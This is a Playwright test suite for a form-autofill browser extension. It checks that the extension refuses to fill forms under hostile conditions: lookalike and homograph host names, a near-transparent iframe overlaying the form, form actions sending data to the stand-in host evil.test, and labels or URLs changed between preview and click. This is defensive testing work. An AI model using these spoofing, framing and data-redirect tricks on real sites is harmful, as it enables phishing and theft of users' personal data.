import { expect, type Page } from '@playwright/test';
import type { HostileCase } from '../case.ts';
import { base, huid, type PlaceName, places } from '../form.ts';
import { expectCard, expectNoCard, fillFromPanel, type Lab, only, outcome, press, pressNow, previewOf, tickAll } from '../lab.ts';

const path = '/forms/guest/';

/** Nothing on the page, and nothing to fill in the panel. */
async function expectNothing(lab: Lab, page: Page): Promise<void> {
  await expectNoCard(page);
  const panel = await lab.panel(page);
  await expect(panel.getByText('Nothing to say about this page')).toBeVisible();
  await expect(panel.getByRole('button', { name: /^Fill/ })).toHaveCount(0);
}

type Script = 'no script' | 'script';

/** Where the browser itself puts our script: matching knows neither ports nor a closing dot, the script does. */
async function expectScript(lab: Lab, page: Page, script: Script): Promise<void> {
  const has = await lab.browser.hasOurScript?.(page);
  if (has !== undefined) expect(has ? 'script' : 'no script', 'in the page').toBe(script);
}

/** The form of a place, at an address that is not that place's. */
export const notOurs = (id: string, title: string, url: string, place: PlaceName = 'hms', script: Script = 'no script'): HostileCase => ({
  id,
  title: `${title}: nothing is said, nothing is filled`,
  run: async (lab) => {
    // The browser asks for the address without the name of a user.
    const asked = new URL(url);
    asked.username = '';
    lab.serve(asked.href, base({ title: places[place].title }));
    const page = await lab.open(url, base({ title: places[place].title }));
    await expectNothing(lab, page);
    await expectScript(lab, page, script);
  },
});

const refusedForm = (id: string, title: string, change: Parameters<typeof base>[0], place?: PlaceName): HostileCase => ({
  id,
  title: `${title}: refused, with the reason`,
  run: async (lab) => {
    const page = await lab.form(change, place);
    await expectCard(page, /^(?!.*Fill \d)/);
    const panel = await lab.panel(page);
    expect(await outcome(panel)).toContain('would send what you type to another site');
  },
});

async function previewed(lab: Lab, page: Page): Promise<Page> {
  const panel = await lab.panel(page);
  await tickAll(panel);
  return panel;
}

export const destination: readonly HostileCase[] = [
  notOurs('H01', 'our host as the beginning of another', `https://it.hms.harvard.edu.evil.test${path}`),
  notOurs('H02', 'plain http', `http://it.hms.harvard.edu${path}`),
  notOurs('H03', 'another port of our host', `https://it.hms.harvard.edu:8443${path}`, 'hms', 'script'),
  notOurs('H04', 'our host with a closing dot', `https://it.hms.harvard.edu.${path}`, 'hms', 'script'),
  notOurs('H05a', 'our host as a user name', `https://it.hms.harvard.edu@evil.test${path}`),
  notOurs('H05b', 'a host below ours', `https://x.it.hms.harvard.edu${path}`),
  notOurs('H05c', 'a host that looks like ours', `https://ithms.harvard.edu${path}`),
  notOurs('H05d', 'a host with a letter of another alphabet', `https://${new URL('https://іt.hms.harvard.edu').host}${path}`),
  {
    id: 'H07',
    title: 'the page goes to another address of its host between preview and click: nothing is filled',
    run: async (lab) => {
      const page = await lab.form({}, 'ppms');
      const panel = await previewed(lab, page);
      await page.evaluate(() => history.pushState({}, '', '/other-univ/form'));
      await expect(panel.getByRole('button', { name: /^Fill/ })).toHaveCount(0);
      await expect(panel.getByText(/Nothing to say about this page|does not answer|page changed|Too much time/i).first()).toBeVisible();
    },
  },
  {
    id: 'H07b',
    title: 'the same, and the click comes at once',
    run: async (lab) => {
      const page = await lab.form({}, 'ppms');
      const panel = await previewed(lab, page);
      // In one go, so that the panel cannot have heard of it.
      await Promise.all([page.evaluate(() => history.pushState({}, '', '/other-univ/form')), pressNow(panel)]);
      await expect(panel.getByText(/Nothing to say about this page|No field was filled|page changed|Too much time/i).first()).toBeVisible();
    },
  },
  {
    id: 'H08',
    title: 'a form inside the wiki: guidance at most, no Fill, and no code there that could',
    run: async (lab) => {
      const url = 'https://harvardmed.atlassian.net/wiki/spaces/O2/pages/1605009747/x';
      const page = await lab.open(url, base({ title: 'Two Factor Authentication on O2' }));
      await expectCard(page, /^(?!.*Fill \d)/);
      const panel = await lab.panel(page);
      await expect(panel.getByRole('heading', { name: 'This page', exact: true })).toBeVisible();
      await expect(panel.getByRole('button', { name: /^Fill/ })).toHaveCount(0);
      const tabId = await lab.tabOf(page);
      expect(await lab.ask(panel, 'previewFill', { tabId, from: 'panel' })).toMatchObject({ kind: 'failed', why: 'not-a-form' });
    },
  },
  {
    id: 'H09',
    title: 'a sandboxed document at the right address is nobody',
    run: async (lab) => {
      const headers = { 'content-security-policy': 'sandbox allow-scripts allow-forms' };
      const page = await lab.open(places[lab.place].url, base({ title: places[lab.place].title }), { headers });
      await expectNothing(lab, page);
      await expectScript(lab, page, 'script');
    },
  },
  {
    id: 'H10',
    title: 'our form framed by another site: nothing in the frame, nothing for the site around it',
    run: async (lab) => {
      const { url, title } = places[lab.place];
      lab.serve(url, base({ title }));
      const frame = `<iframe src="${url}" style="opacity:.01;position:fixed;inset:0"></iframe>`;
      const page = await lab.open('https://evil.test/', `<!doctype html><title>e</title>${frame}`);
      await expectNothing(lab, page);
      await expectScript(lab, page, 'no script');
    },
  },
  {
    id: 'H11',
    title: 'a frame of another site with fields of the same names: only the top form is filled',
    run: async (lab) => {
      lab.serve('https://evil.test/f', base());
      const page = await lab.form({ after: '<iframe src="https://evil.test/f"></iframe>' });
      expect((await fillFromPanel(lab, page)).said).toContain('4 fields filled');
      lab.allow(page, lab.filled);
    },
  },
  {
    id: 'H12',
    title: 'the form itself in a sandboxed frame: the frame is not touched',
    run: async (lab) => {
      const inner = lab.place === 'hms' ? places.o2 : places.hms;
      lab.serve(inner.url, base({ title: inner.title }));
      const page = await lab.form({ after: `<iframe sandbox="allow-scripts allow-forms" src="${inner.url}"></iframe>` });
      expect((await fillFromPanel(lab, page)).said).toContain('4 fields filled');
      lab.allow(page, lab.filled);
    },
  },
  refusedForm('H14a', 'a form that sends to another site', { form: 'action="https://evil.test/c"' }),
  refusedForm('H14b', 'a button that sends to another site', { inside: '<button formaction="https://evil.test/c">Go</button>' }),
  refusedForm('H14c', 'a base that leads to another site', { head: '<base href="https://evil.test/">', form: 'action="c"' }),
  refusedForm('H14d', 'a form of the second host that sends elsewhere', { form: 'action="https://evil.test/c"' }, 'ppms'),
  {
    id: 'H14e',
    title: 'the action changes between preview and click: nothing is written',
    run: async (lab) => {
      const page = await lab.form();
      const panel = await previewed(lab, page);
      await page.evaluate(() => document.querySelector('form')?.setAttribute('action', 'https://evil.test/c'));
      await press(panel);
      expect(await outcome(panel)).toMatch(/another site/);
    },
  },
  {
    id: 'H14f',
    title: 'the action changes while the first field is written: nothing more is written',
    run: async (lab) => {
      const page = await lab.form({ script: "fn.oninput=()=>req.setAttribute('action','https://evil.test/c')" });
      await fillFromPanel(lab, page);
      lab.allow(page, only(lab, 'fn'));
    },
  },
  {
    id: 'H15',
    title: 'the label of the Harvard ID becomes the supervisor’s after the preview: nothing is written before the user has looked again',
    run: async (lab) => {
      const page = await lab.form();
      const panel = await previewed(lab, page);
      await page.evaluate(() => {
        const label = document.querySelector('label[for=hu]');
        if (label) label.textContent = 'Supervisor’s Harvard ID';
      });
      await press(panel);
      expect(await outcome(panel)).toMatch(/page changed/i);
      expect(await page.locator('#fn').inputValue(), 'the rest waits too').toBe('');
      await expect(previewOf(panel).getByRole('checkbox', { name: /Harvard ID/ }), 'looked at anew').toHaveCount(0);
      await tickAll(panel);
      await press(panel);
      await expect(panel.locator('.hag-report')).toContainText('3 fields filled');
      lab.allow(page, only(lab, 'fn', 'ln', 'em'));
    },
  },
  {
    id: 'H15b',
    title: 'another heading comes over the fields after the preview: what was planned for one person is not written for another',
    run: async (lab) => {
      const page = await lab.form();
      const panel = await previewed(lab, page);
      await page.evaluate(() => {
        const heading = document.createElement('h2');
        heading.textContent = 'Sponsor information';
        document.querySelector('form')?.prepend(heading);
      });
      await press(panel);
      expect(await outcome(panel)).toMatch(/field changed|page changed/i);
    },
  },
  {
    id: 'H16',
    title: 'two copies of the form: which one is meant cannot be known, none is filled',
    run: async (lab) => {
      const copy = base().match(/<form[\s\S]*<\/form>/)?.[0] ?? '';
      const page = await lab.form({ after: copy });
      const panel = await lab.panel(page);
      await expect(panel.getByText(/neither was filled/i).first()).toBeAttached();
      await expect(previewOf(panel)).toHaveCount(0);
    },
  },
  {
    id: 'H113',
    title: 'the portal shows another item without a reload between preview and click: refused',
    run: async (lab) => {
      const page = await lab.form();
      const panel = await previewed(lab, page);
      const swap = page.evaluate(() => {
        history.replaceState({}, '', '/stat?id=sc_cat_item&sys_id=B');
        for (const label of document.querySelectorAll('label')) label.textContent = 'Comments';
      });
      await Promise.all([swap, pressNow(panel)]);
      await expect(
        panel.getByText(/Nothing to say about this page|No empty field here|No field was filled|page changed|Too much time/i).first(),
      ).toBeVisible();
    },
  },
  ...[
    'id=sc_cat_item&sys_id=B',
    'id=service_catalog_cards&sys_id=5165e1dbdb209050b642f27139961979',
    'id=kb_article&sys_id=5165e1dbdb209050b642f27139961979',
  ].map(
    (query, at): HostileCase => ({
      id: `H114${'abc'[at]}`,
      title: `another page of the portal (${query.slice(0, 24)}…): no Fill is offered`,
      run: async (lab) => {
        const page = await lab.open(`https://harvardmed.service-now.com/stat?${query}`, base({ title: 'Something else' }));
        const panel = await lab.panel(page);
        await expect(panel.getByText(/Nothing to say about this page|This page/).first()).toBeVisible();
        await page.waitForTimeout(600);
        await expect(panel.getByRole('button', { name: /^Fill/ })).toHaveCount(0);
      },
    }),
  ),
  {
    id: 'H114d',
    title: 'the query key given twice: not the form',
    run: async (lab) => {
      const page = await lab.open(`${places.o2.url}&sys_id=B`, base({ title: 'Something else' }));
      await expectNothing(lab, page);
    },
  },
  notOurs('H116a', 'the other tenant', `https://harvard.service-now.com/stat?${new URL(places.o2.url).searchParams}`),
  notOurs('H116b', 'the portal’s host as the beginning of another', places.o2.url.replace('.com/', '.com.evil.test/')),
  notOurs('H116c', 'a path that begins like the portal’s', places.o2.url.replace('/stat?', '/statx?')),
  notOurs('H116d', 'the portal’s frame', 'https://harvardmed.service-now.com/nav_to.do?uri=/stat?id=sc_cat_item'),
  {
    id: 'H117',
    title:
      'a form at an unknown address of a form host, found by its heading: the card offers no fill, popup and overlay may not, the panel shows each value first',
    run: async (lab) => {
      const page = await lab.form({ hu: huid }, 'hms');
      await expectCard(page, /^(?!.*Fill \d)/);
      const panel = await lab.panel(page);
      await expect(previewOf(panel)).toBeVisible();
      for (const box of await previewOf(panel).getByRole('checkbox').all()) await expect(box).not.toBeChecked();
      const tabId = await lab.tabOf(page);
      expect(await lab.ask(panel, 'previewFill', { tabId, from: 'popup' })).toMatchObject({ kind: 'failed', why: 'only-from-panel' });
    },
  },
];
